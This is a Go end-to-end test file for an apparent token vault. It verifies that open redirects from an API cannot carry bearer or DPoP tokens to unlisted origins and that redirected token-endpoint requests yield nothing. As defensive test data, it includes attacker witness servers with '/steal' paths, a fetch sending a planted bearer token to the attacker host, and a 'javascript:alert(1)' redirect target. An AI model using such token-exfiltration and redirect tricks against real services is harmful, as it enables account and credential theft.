package e2e

import (
	"net/url"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"tokenvault/internal/demo"
	"tokenvault/static"
)

// TestRedirectsDoNotCarryTheToken has an allow-listed API redirect to other origins.
// Two walls hold: the vault's connect-src, for an origin that the configuration does
// not name, and the browser, which drops the header on the way to another origin. The
// controls: a redirect at the API itself carries the token, so it is counted; the
// attacker's server sees a token that is sent to it; and without the first wall it
// sees the request, so the redirect is followed. An origin that the configuration
// names gets a token for what it lists, and for nothing else; one that it names for
// redirects alone gets none, and nothing at all but by a redirect.
func TestRedirectsDoNotCarryTheToken(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name     string
		insecure bool
	}{
		{"as it is", false},
		{"control: the vault may connect to every origin", true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			listed, evil, storage := newWitness(t), newWitness(t), newWitness(t)
			s := newHostileSite(t, func(o *demo.Options) {
				o.Configure = func(c *demo.Configuration) {
					c.Clients[0].Resources = append(c.Clients[0].Resources, demo.Resource{URL: listed.at(carelessHost) + "/only/this"})
					c.RedirectOrigins = []string{storage.at(storageHost)}
				}
				if tc.insecure {
					o.VaultOptions = append(o.VaultOptions, static.InsecureOverrideHeader("Content-Security-Policy", ""))
				}
			})
			p := s.signInHostile()
			follow := func(to string) string {
				return eval[string](p, `
					const line = await new Line().ready;
					const seen = [];
					for (const status of [301, 302, 303, 307, 308]) {
						const url = `+js(s.APIURL+"/v1/redirect?to="+url.QueryEscape(to)+"&status=")+` + status;
						for (const method of ['GET', 'POST']) {
							const body = method === 'POST' ? 'x=1' : undefined;
							const init = { method, body, credentials: 'include', headers: { authorization: 'Bearer mine', dpop: 'mine' } };
							seen.push(await fetch(url, init).then(readOut).then(textOf, String));
							seen.push(textOf(await line.ask({ url, method, credentials: 'include' }, body)));
						}
					}
					return seen.join('\n');`)
			}
			for _, to := range []string{
				listed.at(carelessHost) + "/elsewhere",
				storage.at(storageHost) + "/only/this",
				evil.at(evilHost) + "/steal",
				evil.at(siblingHost) + "/steal",
				s.AuthURL + "/.well-known/openid-configuration",
				s.AuthURL + "/token",
				s.AppURL + "/e2e/plain.html",
				s.VaultURL + "/proxy.html",
				"data:text/plain,x",
				"javascript:alert(1)",
			} {
				s.noToken(follow(to), "the answers by "+to)
			}
			assert.NotEmpty(t, listed.requests(), "control: a listed origin is reached")
			redirects := len(storage.requests())
			assert.Equal(t, 20, redirects, "five redirects with two methods, by the page and by a message")
			asked := eval[[]string](p, `
				const line = await new Line().ready;
				const url = `+js(storage.at(storageHost)+"/only/this")+`;
				return Promise.all(['GET', 'POST'].map(async (method) => (await line.ask({ url, method })).type));`)
			assert.Equal(t, []string{"bypass", "bypass"}, asked)
			assert.Len(t, storage.requests(), redirects, "the vault asks there for nothing itself")
			if tc.insecure {
				assert.NotEmpty(t, evil.requests(), "control: without connect-src the redirect is followed")
			} else {
				assert.Empty(t, evil.requests(), "an origin that is not listed is not even reached")
			}
			s.tokensWentOnlyTo(listed, evil, storage)
			for _, w := range []*witness{listed, evil, storage} {
				for _, r := range w.requests() {
					assert.Empty(t, r.Header.Get("Authorization"), "%s%s", r.Host, r.URI)
					assert.Empty(t, r.Header.Get("DPoP"), "%s%s", r.Host, r.URI)
				}
			}

			// What is listed gets a token of the vault's, whoever leads there, and
			// only by a method that does nothing when it is repeated.
			s.noToken(follow(listed.at(carelessHost)+"/only/this"), "the answers")
			carried := 0
			for _, r := range listed.requests() {
				if r.Header.Get("Authorization") == "" {
					continue
				}
				carried++
				assert.Equal(t, "GET /only/this", r.Method+" "+r.URI)
				assert.Empty(t, r.Header.Get("DPoP"))
			}
			assert.Equal(t, 10, carried, "five redirects, by the page and by a message")

			s.IDP.ClearRequests()
			s.noToken(follow("/v1/whoami"), "the answers")
			assert.GreaterOrEqual(t, s.tokensWentOnlyTo(), 20, "control: a redirect at the API carries the token")
			eval[any](p, `await fetch(`+js(evil.at(evilHost)+"/steal")+`, { headers: { authorization: 'Bearer planted' } })`)
			seen := evil.requests()
			require.Equal(t, "Bearer planted", seen[len(seen)-1].Header.Get("Authorization"), "control: the attacker's server sees a token that is sent to it")
		})
	}
}

// TestRedirectToATokenEndpointGivesNoTokens redeems a code of the attacker's own by
// way of an API that redirects: tokens that the vault does not know cannot be scrubbed.
func TestRedirectToATokenEndpointGivesNoTokens(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name     string
		insecure bool
	}{
		{"as it is", false},
		{"control: the same code at the endpoint, and a server that admits the app", true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			s := newHostileSite(t, func(o *demo.Options) { o.InsecureAppCORS = tc.insecure })
			p := s.signInHostile()
			got := eval[string](p, `
				const { tokenEndpoint } = await demo;
				const { code, verifier, redirect } = await ownCode();
				const url = `+js(s.APIURL+"/v1/redirect?status=307&to=")+` + encodeURIComponent(tokenEndpoint);
				if (!`+js(tc.insecure)+`) return redeem(code, verifier, { redirect, url }).then(readOut).then(textOf, String);
				for (const registration of await navigator.serviceWorker.getRegistrations()) await registration.unregister();
				const around = document.createElement('iframe');
				around.src = '/e2e/plain.html?around';
				const loaded = new Promise((resolve) => around.addEventListener('load', resolve));
				document.body.append(around);
				await loaded;
				return textOf(await readOut(await redeem(code, verifier, { redirect, send: around.contentWindow.fetch })));`)
			if tc.insecure {
				assert.NotEmpty(t, s.found(got), "control: the code is worth tokens")
			} else {
				assert.Equal(t, "TypeError: Failed to fetch", got)
			}
		})
	}
}
